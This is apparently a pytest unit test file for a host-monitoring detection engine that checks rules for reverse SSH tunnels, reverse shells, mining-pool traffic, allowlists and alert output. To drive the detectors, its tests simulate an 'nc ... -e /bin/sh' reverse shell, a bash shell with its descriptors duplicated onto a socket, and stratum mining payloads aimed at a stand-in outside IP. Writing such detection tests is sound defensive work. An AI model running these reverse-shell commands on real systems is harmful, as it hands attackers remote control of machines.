"""The detection engine's state and rules, driven by typed events (no kernel)."""

from __future__ import annotations

import dataclasses

import orjson
import pytest

from monitor.clock import Clock
from monitor.config import load_config, parse_config
from monitor.detectors.engine import DetectionEngine
from monitor.detectors.iocs import build_iocs
from monitor.detectors.rules import load_rules
from monitor.detectors.signals import Signal
from monitor.sensor.events import ConnectEvent, DupEvent, ExecEvent, ForkEvent, SendEvent
from monitor.sinks.ecs import Renderer
from monitor.state.process_table import ProcessTable
from tests.support.events import attributed
from tests.support.events import hdr as base_hdr

pytestmark = pytest.mark.unit

CFG = load_config(None)
OUTSIDE = "198.51.100.2"


def hdr(pid: int, comm: str, ppid: int = 1, ts: int = 1) -> dict:
    return base_hdr(pid, ppid=ppid, ts=ts, comm=comm)


class World:
    """A process table and an engine, fed the way the collector feeds them."""

    def __init__(self, rules: str = "", **detectors: object) -> None:
        det = dataclasses.replace(CFG.detectors, **detectors)  # type: ignore[arg-type]
        ruleset = load_rules(settings=parse_config(rules).rules)  # RULES: a [rules] TOML text
        self.engine = DetectionEngine(
            build_iocs(det, CFG.allowlist), ruleset, read_file=lambda p, f: None
        )
        self.table = ProcessTable(CFG.tags, boot_id="b")

    def exec(self, pid: int, argv: list[str], ppid: int = 1) -> list:
        ev = ExecEvent(
            **hdr(pid, argv[0].rsplit("/", 1)[-1][:15], ppid), filename=argv[0], argv=argv
        )
        p = self.table.on_exec(ev)
        return self.engine.observe(attributed(self.table, ev, p))

    def fork(self, parent: int, child: int) -> None:
        ev = ForkEvent(**hdr(parent, self.table.procs[parent].name), child_pid=child)
        c = self.table.on_fork(ev)
        self.engine.observe(attributed(self.table, ev, c, self.table.procs[parent]))

    def connect(self, pid: int, ip: str, port: int, fd: int = 3, transport: int = 1) -> list:
        p = self.table.procs[pid]
        ev = ConnectEvent(
            **hdr(pid, p.name),
            fd=fd,
            ret=0,
            family=2,
            daddr=ip,
            dport=port,
            sock_type=transport,
            protocol=6,
        )
        return self.engine.observe(attributed(self.table, ev, self.table.process_for(ev)))

    def send(self, pid: int, ip: str, port: int, data: bytes) -> list:
        p = self.table.procs[pid]
        ev = SendEvent(
            **hdr(pid, p.name),
            daddr=ip,
            dport=port,
            family=2,
            data=data,
            payload_len=len(data),
            owner_pid=pid,
        )
        return self.engine.observe(attributed(self.table, ev, self.table.process_for(ev)))

    def dup(self, pid: int, old: int, new: int) -> list:
        p = self.table.procs[pid]
        ev = DupEvent(**hdr(pid, p.name), oldfd=old, newfd=new)
        return self.engine.observe(attributed(self.table, ev, self.table.process_for(ev)))


def ids(findings: list) -> list[str]:
    return [f.rule.id for f in findings]


def test_ssh_client_connecting_back_is_a_reverse_forward() -> None:
    w = World()
    w.exec(10, ["/usr/bin/ssh", "-N", f"root@{OUTSIDE}"])  # nothing in argv
    assert w.send(10, OUTSIDE, 22, b"SSH-2.0-OpenSSH_9.2p1\r\n") == []
    f = w.connect(10, "127.0.0.1", 8081, fd=5)
    assert ids(f) == ["RLG-TUN-001"]
    assert f[0].rule.severity(f[0].signals) == "critical"
    assert f[0].extra["connect_back"]["port"] == 8081


def test_ssh_session_survives_fork() -> None:
    w = World()
    w.exec(10, ["/usr/bin/ssh", "-f", "-N", f"root@{OUTSIDE}"])
    w.send(10, OUTSIDE, 22, b"SSH-2.0-OpenSSH_9.2p1\r\n")
    w.fork(10, 11)  # ssh -f backgrounds itself after authentication
    assert ids(w.connect(11, "127.0.0.1", 8081)) == ["RLG-TUN-001"]


def test_sshd_connecting_locally_is_the_server_side() -> None:
    w = World()
    w.exec(20, ["/usr/sbin/sshd", "-D"])
    w.send(20, OUTSIDE, 22, b"SSH-2.0-OpenSSH_9.2p1\r\n")
    assert w.connect(20, "127.0.0.1", 8081) == []


def test_library_ssh_client_and_odd_port() -> None:
    w = World()
    w.exec(30, ["/usr/bin/python3", "agent.py"])
    f = w.send(30, OUTSIDE, 443, b"SSH-2.0-paramiko_3.4.0\r\n")
    assert ids(f) == ["RLG-TUN-002"]
    names = {s.name for s in f[0].signals}
    assert names == {"ssh.unknown_client", "ssh.non_ssh_port"}
    assert f[0].rule.severity(f[0].signals) == "high"


def test_one_alert_then_a_follow_up_only_when_severity_rises() -> None:
    w = World()
    w.exec(40, ["/usr/bin/ssh", f"root@{OUTSIDE}"])
    first = w.send(40, OUTSIDE, 443, b"SSH-2.0-OpenSSH_9.2p1\r\n")
    assert [f.rule.severity(f.signals) for f in first] == ["medium"]
    # the same evidence again: nothing new
    assert w.send(40, OUTSIDE, 443, b"SSH-2.0-OpenSSH_9.2p1\r\n") == []
    # more medium evidence: two mediums make high -> one follow-up
    up = w.send(40, OUTSIDE, 2200, b"SSH-2.0-OpenSSH_9.2p1\r\n")
    assert len(up) == 1 and up[0].extra["follow_up"] is True
    assert up[0].extra["previous_severity"] == "medium"
    assert up[0].rule.severity(up[0].signals) == "high"
    assert w.send(40, OUTSIDE, 2201, b"SSH-2.0-OpenSSH_9.2p1\r\n") == []


def test_bash_dev_tcp_reverse_shell_via_dup() -> None:
    w = World()
    w.exec(50, ["/bin/bash", "-i"])
    w.connect(50, OUTSIDE, 4444, fd=3)
    assert w.dup(50, 3, 1) == []  # stdout alone is not yet a shell on a socket
    f = w.dup(50, 1, 0)  # 0>&1: stdin now the socket too
    assert ids(f) == ["RLG-SHL-001"]
    assert f[0].rule.severity(f[0].signals) == "critical"


def test_nc_e_style_child_execs_a_shell_on_the_socket() -> None:
    w = World()
    w.exec(60, ["/usr/bin/nc", OUTSIDE, "4444", "-e", "/bin/sh"])
    w.connect(60, OUTSIDE, 4444, fd=3)
    w.fork(60, 61)
    w.dup(61, 3, 0)
    w.dup(61, 3, 1)
    assert ids(w.exec(61, ["/bin/sh"], ppid=60)) == ["RLG-SHL-001"]


def test_reverse_shell_to_an_internal_address_is_not_flagged() -> None:
    w = World()
    w.exec(70, ["/bin/bash"])
    w.connect(70, "10.1.2.3", 4444, fd=3)
    w.dup(70, 3, 0)
    assert w.dup(70, 3, 1) == []


def test_pool_port_is_context_not_an_alert() -> None:
    w = World()
    w.exec(80, ["/tmp/data-loader"])
    assert w.connect(80, OUTSIDE, 3333) == []
    f = w.send(80, OUTSIDE, 3333, b'{"id":1,"method":"mining.subscribe","params":["x/1"]}\n')
    assert ids(f) == ["RLG-MIN-001"]
    assert "behaviour.pool_port" in {s.name for s in f[0].signals}
    assert f[0].rule.severity(f[0].signals) == "critical"


def test_pool_port_alert_mode() -> None:
    w = World(pool_port_connects="alert")
    w.exec(81, ["/tmp/x"])
    assert ids(w.connect(81, OUTSIDE, 3333)) == ["RLG-MIN-004"]


def test_allowlisted_destination_is_silent() -> None:
    iocs = build_iocs(
        CFG.detectors, dataclasses.replace(CFG.allowlist, destinations=(f"{OUTSIDE}/32",))
    )
    w = World()
    w.engine.iocs = iocs
    w.exec(90, ["/tmp/x"])
    assert w.send(90, OUTSIDE, 3333, b'{"id":1,"method":"mining.subscribe","params":[]}\n') == []


def test_alert_document_shape() -> None:
    w = World()
    w.exec(95, ["/tmp/y"])
    f = w.send(95, OUTSIDE, 3333, b'{"id":1,"method":"mining.authorize","params":["w","x"]}\n')[0]
    doc = Renderer(w.table, Clock()).render_alert(f)
    assert doc["event"]["kind"] == "alert" and doc["event"]["severity"] == 99
    assert doc["rule"]["id"] == "RLG-MIN-001"
    assert doc["threat"]["technique"][0]["id"] == "T1496"
    assert doc["process"]["pid"] == 95 and doc["rl"]["source"] == "none"
    assert doc["destination"] == {"ip": OUTSIDE, "port": 3333}
    assert doc["rlguard"]["alert"]["trigger"]["action"] == "send"
    assert doc["rlguard"]["alert"]["severity"] == "critical"
    assert doc["rlguard"]["alert"]["evidence"][0]["kind"] == "payload"
    orjson.loads(orjson.dumps(doc))


# --- the config's [rules] settings --------------------------------------------------------------


def test_a_disabled_rule_raises_nothing_but_its_state_still_serves_other_rules() -> None:
    w = World(rules='[rules."RLG-TUN-002"]\nenabled = false\n')
    w.exec(100, ["/usr/bin/ssh", "-N", f"root@{OUTSIDE}"])
    # port 443 would be RLG-TUN-002 (medium); disabled, it says nothing...
    assert w.send(100, OUTSIDE, 443, b"SSH-2.0-OpenSSH_9.2p1\r\n") == []
    assert w.send(100, OUTSIDE, 2200, b"SSH-2.0-OpenSSH_9.2p1\r\n") == []
    # ...and the SSH session is still recorded for the connect-back
    assert ids(w.connect(100, "127.0.0.1", 8081, fd=5)) == ["RLG-TUN-001"]
    assert "RLG-TUN-002" not in w.engine.alerts_by_rule


def test_a_severity_override_fixes_every_alert_of_the_rule() -> None:
    w = World(rules='[rules."RLG-TUN-002"]\nseverity = "low"\n')
    w.exec(101, ["/usr/bin/python3", "agent.py"])
    f = w.send(101, OUTSIDE, 443, b"SSH-2.0-paramiko_3.4.0\r\n")  # high evidence
    assert ids(f) == ["RLG-TUN-002"] and f[0].rule.severity(f[0].signals) == "low"
    doc = Renderer(w.table, Clock()).render_alert(f[0])
    assert doc["event"]["severity"] == 21 and doc["rlguard"]["alert"]["severity"] == "low"
    # more evidence cannot raise a fixed severity: no follow-up
    assert w.send(101, OUTSIDE, 2200, b"SSH-2.0-paramiko_3.4.0\r\n") == []


def test_below_min_severity_evidence_is_kept_and_raised_once_it_reaches_the_floor() -> None:
    w = World(rules='[rules]\nmin_severity = "high"\n')
    w.exec(102, ["/usr/bin/ssh", f"root@{OUTSIDE}"])
    # medium: below the floor, not raised
    assert w.send(102, OUTSIDE, 443, b"SSH-2.0-OpenSSH_9.2p1\r\n") == []
    # a second medium signal makes it high: raised with both, as a first alert
    up = w.send(102, OUTSIDE, 2200, b"SSH-2.0-OpenSSH_9.2p1\r\n")
    assert ids(up) == ["RLG-TUN-002"] and up[0].rule.severity(up[0].signals) == "high"
    assert len(up[0].signals) == 2
    assert "follow_up" not in up[0].extra
    assert w.engine.alerts_by_rule == {"RLG-TUN-002": 1}
    # a rule whose alerts are all below the floor never raises (test_pool_port_alert_mode:
    # it does at the default floor)
    w2 = World(rules='[rules]\nmin_severity = "high"\n', pool_port_connects="alert")
    w2.exec(104, ["/tmp/x"])
    assert w2.connect(104, OUTSIDE, 3333) == []  # RLG-MIN-004 is always low


def test_findings_from_outside_the_engine_obey_the_settings_too() -> None:
    # attribution (RLG-ATTR-001) and the GPU table report through engine.report
    w = World(
        rules='[rules."RLG-ATTR-001"]\nenabled = false\n'
        '[rules."RLG-GPU-003"]\nseverity = "critical"\n'
    )
    w.exec(106, ["/tmp/x"])
    p = w.table.procs[106]
    ev = ExecEvent(**hdr(106, "x"), filename="/tmp/x", argv=["/tmp/x"])
    sig = Signal("env", "tag_conflict.episode", "own episode 'a' != registry 'b'", "high")
    assert w.engine.report("RLG-ATTR-001", p.entity_id, [sig], attributed(w.table, ev, p)) == []
    plain = World()
    plain.exec(106, ["/tmp/x"])
    q = plain.table.procs[106]
    ae = attributed(plain.table, ev, q)
    assert ids(plain.engine.report("RLG-ATTR-001", q.entity_id, [sig], ae)) == ["RLG-ATTR-001"]
    held = Signal("behaviour", "gpu.held_after_episode_end", "x", "medium")
    f = w.engine.report("RLG-GPU-003", f"{p.entity_id}/ep", [held], attributed(w.table, ev, p))
    assert f[0].rule.severity(f[0].signals) == "critical"
